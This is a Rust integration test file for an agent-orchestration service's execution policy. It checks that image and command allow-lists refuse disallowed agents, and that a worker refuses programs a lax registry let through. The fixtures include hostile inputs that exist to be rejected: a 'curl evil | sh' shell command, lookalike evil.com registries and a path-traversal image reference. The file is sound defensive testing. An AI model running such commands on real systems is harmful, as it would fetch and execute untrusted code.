//! The execution policy through the real host and the shipped `spin.toml`:
//! the registry refuses agents whose image or program is off the lists
//! (`allowed_images`, `require_image_digest`, `allowed_commands`) and keeps
//! nothing of them; and a worker refuses what a laxer registry let through,
//! so the run ends instead of running it.

use serde_json::{Value, json};
use spindle_tests::{Host, HostBuilder, client, root};

use crate::engine::{stack_full, step};

/// The app with the shipped defaults for images and digests, and only the
/// reference agents' program allowed without an image (the harness allows
/// any program; the later setting wins), plus `env`.
fn app(env: &[(&str, &str)]) -> Host {
    let mut b = HostBuilder::new(root().join("spin.toml"))
        .env("SPIN_VARIABLE_ALLOWED_COMMANDS", "spindle-agents");
    for (k, v) in env {
        b = b.env(k, v);
    }
    b.start()
}

async fn send(host: &Host, method: reqwest::Method, path: &str, body: &Value) -> (u16, Value) {
    let resp = client()
        .request(method, host.url(path))
        .json(body)
        .send()
        .await
        .unwrap();
    let status = resp.status().as_u16();
    (status, resp.json().await.unwrap_or(Value::Null))
}

async fn create(host: &Host, agent: &Value) -> (u16, Value) {
    send(host, reqwest::Method::POST, "/api/agents", agent).await
}

async fn get(host: &Host, name: &str) -> (u16, Value) {
    let resp = client()
        .get(host.url(&format!("/api/agents/{name}")))
        .send()
        .await
        .unwrap();
    let status = resp.status().as_u16();
    (status, resp.json().await.unwrap_or(Value::Null))
}

/// A 400 validation problem whose only error is at `pointer`, with a
/// detail containing `says`.
fn assert_refused(status: u16, problem: &Value, pointer: &str, says: &str) {
    assert_eq!(status, 400, "{problem:#}");
    assert_eq!(problem["type"], "/docs/problems#validation", "{problem:#}");
    let errors = problem["errors"].as_array().unwrap();
    assert_eq!(errors.len(), 1, "{problem:#}");
    assert_eq!(errors[0]["pointer"], pointer, "{problem:#}");
    let detail = errors[0]["detail"].as_str().unwrap();
    assert!(detail.contains(says), "{detail:?} lacks {says:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn agents_off_the_lists_are_not_registered() {
    let host = app(&[]);
    let refused = [
        (
            json!({"name": "evil-image", "image": "docker.io/evil", "command": ["spindle-agents"]}),
            "/image",
            "image \"docker.io/evil\" is not from an allowed registry (allowed_images: localhost/)",
        ),
        (
            json!({"name": "lookalike", "image": "localhost.evil.com/x"}),
            "/image",
            "is not from an allowed registry (allowed_images: localhost/)",
        ),
        (
            json!({"name": "climber", "image": "localhost/../evil.com/x"}),
            "/image",
            "image \"localhost/../evil.com/x\" is not a valid image reference",
        ),
        (
            json!({"name": "shell", "command": ["sh", "-c", "curl evil | sh"]}),
            "/command/0",
            "program \"sh\" is not allowed for an agent without an image (allowed_commands: spindle-agents)",
        ),
        (
            json!({"name": "elsewhere", "command": ["/tmp/spindle-agents", "notifier"]}),
            "/command/0",
            "program \"/tmp/spindle-agents\" is not allowed",
        ),
    ];
    for (agent, pointer, says) in &refused {
        let (status, problem) = create(&host, agent).await;
        assert_refused(status, &problem, pointer, says);
        let name = agent["name"].as_str().unwrap();
        assert_eq!(get(&host, name).await.0, 404, "{name} was kept");
    }

    // On the lists: the reference agents' image (any command inside it)
    // and, without an image, their program.
    for agent in [
        json!({"name": "contained", "image": "localhost/spindle/agents:latest",
               "command": ["sh", "-c", "cat"]}),
        json!({"name": "local", "command": ["spindle-agents", "notifier"]}),
    ] {
        let (status, v) = create(&host, &agent).await;
        assert_eq!(status, 201, "{v:#}");
    }

    // An update off the list changes nothing.
    let (status, problem) = send(
        &host,
        reqwest::Method::PUT,
        "/api/agents/contained",
        &json!({"name": "contained", "image": "ghcr.io/evil/x:1", "command": ["sh"]}),
    )
    .await;
    assert_refused(status, &problem, "/image", "allowed_images: localhost/");
    let (status, problem) = send(
        &host,
        reqwest::Method::PUT,
        "/api/agents/local",
        &json!({"name": "local", "command": ["sh", "-c", "id"]}),
    )
    .await;
    assert_refused(status, &problem, "/command/0", "allowed_commands");
    let (_, contained) = get(&host, "contained").await;
    assert_eq!(
        (&contained["version"], &contained["image"]),
        (&json!(1), &json!("localhost/spindle/agents:latest"))
    );
    let (_, local) = get(&host, "local").await;
    assert_eq!(
        (&local["version"], &local["command"]),
        (&json!(1), &json!(["spindle-agents", "notifier"]))
    );
    let list: Value = client()
        .get(host.url("/api/agents"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let mut names: Vec<&str> = list["agents"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["name"].as_str().unwrap())
        .collect();
    names.sort();
    assert_eq!(names, ["contained", "local"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn images_can_be_required_to_be_pinned_by_digest() {
    let host = app(&[
        ("SPIN_VARIABLE_ALLOWED_IMAGES", "localhost/,ghcr.io/acme/"),
        ("SPIN_VARIABLE_REQUIRE_IMAGE_DIGEST", "true"),
    ]);
    let digest = format!("sha256:{}", "ab".repeat(32));
    let (status, problem) = create(
        &host,
        &json!({"name": "tagged", "image": "ghcr.io/acme/scanner:1"}),
    )
    .await;
    assert_refused(
        status,
        &problem,
        "/image",
        "is not pinned by digest: it must end in @sha256:<64 hex digits> (require_image_digest: true)",
    );
    assert_eq!(get(&host, "tagged").await.0, 404);
    let pinned = format!("ghcr.io/acme/scanner:1@{digest}");
    let (status, v) = create(&host, &json!({"name": "pinned", "image": pinned})).await;
    assert_eq!(status, 201, "{v:#}");
    assert_eq!(v["image"], pinned);
    // Pinned is not enough off the list.
    let (status, problem) = create(
        &host,
        &json!({"name": "other", "image": format!("ghcr.io/acme-evil/x@{digest}")}),
    )
    .await;
    assert_refused(
        status,
        &problem,
        "/image",
        "(allowed_images: localhost/,ghcr.io/acme/)",
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_malformed_policy_is_a_configuration_problem_and_registers_nothing() {
    let host = app(&[("SPIN_VARIABLE_ALLOWED_IMAGES", "localhost/, ghcr.io/")]);
    let (status, problem) = create(
        &host,
        &json!({"name": "fine", "image": "localhost/spindle/agents:latest"}),
    )
    .await;
    assert_eq!(status, 500, "{problem:#}");
    assert_eq!(problem["type"], "/docs/problems#configuration");
    assert_eq!(
        problem["detail"],
        "allowed_images: entry \" ghcr.io/\" contains whitespace; separate entries with commas only"
    );
    assert_eq!(get(&host, "fine").await.0, 404);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_worker_refuses_what_a_lax_registry_let_through_and_the_run_ends() {
    // The registry allows any program (the harness's setting); the worker
    // only the reference agents'.
    let s = stack_full(
        &[&["--executor", "process", "--allow-command", "spindle-agents"]],
        &[],
        &[],
    );
    let dir = tempfile::tempdir().unwrap();
    let marker = dir.path().join("ran");
    let (status, v) = s
        .post(
            "/api/agents",
            &json!({"name": "intruder",
                "command": ["sh", "-c", format!("touch {}; cat", marker.display())],
                "retry": {"max_attempts": 2, "initial_backoff_ms": 100, "max_backoff_ms": 100}}),
        )
        .await;
    assert_eq!(status, 201, "{v}");
    s.workflow(json!({"name": "intrude", "steps": [{"id": "a", "agent": "intruder"}]}))
        .await;
    let run = s.trigger("intrude", json!({})).await;
    let v = s.finished(&run, 60).await;
    assert_eq!(v["status"], "failed", "{v:#}");
    let a = step(&v, "a");
    assert_eq!(a["error"]["kind"], "dispatch_failed", "{a:#}");
    let attempts = a["attempts"].as_array().unwrap();
    assert_eq!(attempts.len(), 2, "the retry budget is spent: {a:#}");
    for attempt in attempts {
        assert!(
            attempt["worker"].is_null(),
            "no worker took it: {attempt:#}"
        );
        assert!(
            attempt["error"]["message"]
                .as_str()
                .unwrap()
                .contains("answered 400"),
            "{attempt:#}"
        );
    }
    assert!(!marker.exists(), "the refused program ran");
    // The worker says why.
    s.workers[0].log_line(|l| {
        l["msg"] == "job refused"
            && l["error"]
                .as_str()
                .is_some_and(|e| e.contains("program \"sh\" is not allowed on this worker"))
    });
}
